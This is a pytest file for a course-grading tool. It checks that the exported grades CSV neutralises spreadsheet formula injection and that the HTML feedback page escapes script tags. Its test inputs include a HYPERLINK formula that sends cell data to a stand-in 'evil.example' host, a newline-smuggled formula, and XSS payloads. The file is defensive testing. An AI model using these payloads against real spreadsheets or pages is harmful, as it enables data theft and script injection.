"""Is class-grades.csv safe to open in a spreadsheet, with each student's name as submitted, and is the feedback
HTML escaped?"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from grader.grading.intake import collect
from grader.grading.names import shown
from grader.grading.records import ExerciseResult, JobResult
from grader.grading.report import write_csv, write_feedback
from grader.grading.roster import Roster, load_roster, save_roster
from grader.grading.submissions import Submission
from grader.grading.workspace import state_dir


def _result(student: str, points: float = 0.5, review: list[str] | None = None) -> JobResult:
    exercises = [ExerciseResult("a_test", 1.0, points, "auto")]
    return JobResult(student, "01_term", "01_term", "fp", exercises, review or [])


def _enrol(workspace: Path, subs: list[Submission]) -> None:
    """Intake's roster for `subs`, as a run of `bpcourse grade` keeps it in the workspace."""
    roster = Roster()
    for sub in subs:
        sub.key = sub.key or f"flat:{sub.student}"
    roster.assign(subs)
    save_roster(state_dir(workspace), roster)


def _rows(workspace: Path) -> list[dict[str, str]]:
    with (workspace / "class-grades.csv").open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_cells_are_neutralised(tmp_path: Path, start: str) -> None:
    """Does every text cell (student, submitted name, status) that starts with `=`, `+`, `-`, `@`, tab or CR get a
    leading `'`, while scores stay plain numbers?"""
    name = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    sub = Submission(f"{start}cmd", "01_term", tmp_path / "x.ipynb", submitted_as=name)
    _enrol(tmp_path, [sub])
    roster = load_roster(state_dir(tmp_path))
    roster.people[sub.key].review.append(f"{start}odd")
    save_roster(state_dir(tmp_path), roster)
    write_csv(tmp_path, [_result(f"{start}cmd", 0.5, review=["x"])])
    (row,) = _rows(tmp_path)
    for cell in (row["student"], row["submitted_as"]):  # a quote first, or the tab / CR escaped as text
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell.endswith(name[1:] if "HY" in cell else "cmd")
    assert row["student"] in (f"'{start}cmd", f"\\x{ord(start):02x}cmd")
    assert row["status"].startswith("needs review: ") and shown(f"{start}odd") in row["status"]
    assert (row["a_test"], row["total"], row["max"]) == ("0.5", "0.5", "1")


def test_control_characters_in_a_name_are_escaped(tmp_path: Path) -> None:
    """Is a newline in a submitted name escaped (one line per row), so no second line can start a formula?"""
    sub = Submission("amy", "01_term", tmp_path / "x.ipynb", submitted_as="amy\n=1+1")
    _enrol(tmp_path, [sub])
    write_csv(tmp_path, [_result("amy", 1.0)])
    (row,) = _rows(tmp_path)
    assert row["submitted_as"] == "amy\\x0a=1+1" and row["status"] == "ok"


def test_intake_to_csv(tmp_path: Path) -> None:
    """From a folder named `=HYPERLINK(...)` and a collision to the CSV: is the name kept beside the id, quoted
    safely, and is the collision in both students' status?"""
    subs = tmp_path / "subs"
    for folder in ('=HYPERLINK("evil.example","x")', "ann lee", "ann-lee"):
        path = subs / folder / "01_term" / "01_term.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    found = collect(subs, ["01_term"], {("01_term", "01_term"): {"a_test"}}, state=state_dir(tmp_path)).found
    write_csv(tmp_path, [_result(s.student) for s in found])
    rows = {row["student"]: row for row in _rows(tmp_path)}
    assert rows["HYPERLINK-evil.example-x"]["submitted_as"] == """'=HYPERLINK("evil.example","x")"""
    ann = [row for student, row in rows.items() if student.startswith("ann-lee-")]
    assert len(ann) == 2 and all("kept apart" in row["status"] for row in ann)
    assert {row["submitted_as"] for row in ann} == {"ann lee", "ann-lee"}


def test_feedback_html_is_escaped(tmp_path: Path) -> None:
    """Does a `<script>` in a student's name or a review reason reach the feedback page only escaped?"""
    result = JobResult("<script>alert(1)</script>", "?", "nb", "fp", review=["<script>alert(2)</script>"])
    result.exercises.append(ExerciseResult("<b>x</b>", 1.0, 0.0, "auto", cause="<img src=x onerror=alert(3)>"))
    page = write_feedback(tmp_path, result).read_text(encoding="utf-8")
    assert "<script>" not in page and "<img" not in page and "<b>x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&lt;script&gt;alert(2)" in page
